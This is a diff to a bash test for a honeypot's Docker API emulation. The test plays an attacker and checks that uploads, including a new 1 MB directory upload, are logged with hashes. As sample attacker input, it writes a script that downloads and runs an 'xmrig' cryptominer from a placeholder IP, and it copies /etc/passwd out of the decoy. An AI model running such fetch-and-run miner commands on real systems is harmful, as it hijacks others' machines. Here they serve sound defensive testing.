@@ -2,7 +2,8 @@
 # The docker CLI (Debian's docker.io; no engine runs) against the Docker API emulation, as an
 # attacker drives it: version, pull then images, attached runs (the hijacked connection and the
 # multiplexed stream) with a host mount, with a command and with a script on stdin, detached run,
-# ps -a, exec into a decoy container, logs, inspect, cp of a script. Asserts what the client
+# ps -a, exec into a decoy container, logs, inspect, cp of a script and of a 1 MB upload
+# (streamed: hashes and excerpts only). Asserts what the client
 # printed and exit codes, and the events of each step (argv, stdin lines, uploaded file hash).
 set -euo pipefail
 . "$(dirname "$0")/honeypot_lib.bash"
@@ -44,6 +45,11 @@ dk logs web | has 'GET / HTTP/1.1' || fail "logs"
 dk inspect -f '{{.State.Running}} {{.Config.Image}}' web | has -x 'true nginx:1.23' || fail "inspect"
 printf '#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && /tmp/x -o pool.example.net:3333\n' >"$W/m.sh"
 dk cp "$W/m.sh" web:/tmp/ || fail "cp"
+# an upload far past the 64 KiB request limit streams through: a directory with a 1 MB file
+mkdir -p "$W/kit/bin"
+head -c 1000000 /dev/urandom >"$W/kit/bin/payload"
+cp "$W/m.sh" "$W/kit/bin/run.sh"
+dk cp "$W/kit" web:/opt/ || fail "cp of 1 MB"
 mkdir -p "$W/out"
 dk cp web:/etc/passwd "$W/out/" || fail "cp from the container"
 head -1 "$W/out/passwd" | has '^root:x:0:0:' || fail "copied passwd: $(cat "$W/out/passwd")"
@@ -60,5 +66,8 @@ hp_stop
 sum=$(sha256sum "$W/m.sh" | cut -d' ' -f1)
 [ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/tmp/" and .request.files[0].name=="m.sh" and .request.files[0].sha256=="'"$sum"'" and ((.request.files[0].head // "")|test("xmrig"))')" = 1 ] \
   || fail "cp upload event"
+big=$(sha256sum "$W/kit/bin/payload" | cut -d' ' -f1)
+[ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/opt/" and .payload_size > 1000000 and ([.request.files[].name] == ["kit/","kit/bin/","kit/bin/payload","kit/bin/run.sh"] or [.request.files[].name] == ["kit/","kit/bin/","kit/bin/run.sh","kit/bin/payload"]) and (.request.files[] | select(.name=="kit/bin/payload") | .size==1000000 and .sha256=="'"$big"'" and (.head|length) <= 256) and (.request.files[] | select(.name=="kit/bin/run.sh") | .head|test("xmrig"))')" = 1 ] \
+  || fail "1 MB cp upload event: $(hp_cat | grep archive.put | tail -1 | cut -c1-2000)"
 [ "$(hp_count '.eventid=="docker.container.archive.get" and .request.target=="/etc/passwd"')" = 1 ] || fail "cp out event"
 echo "ok: docker $(hp_count '.service=="docker" and (.eventid|startswith("session.")|not)') steps logged"
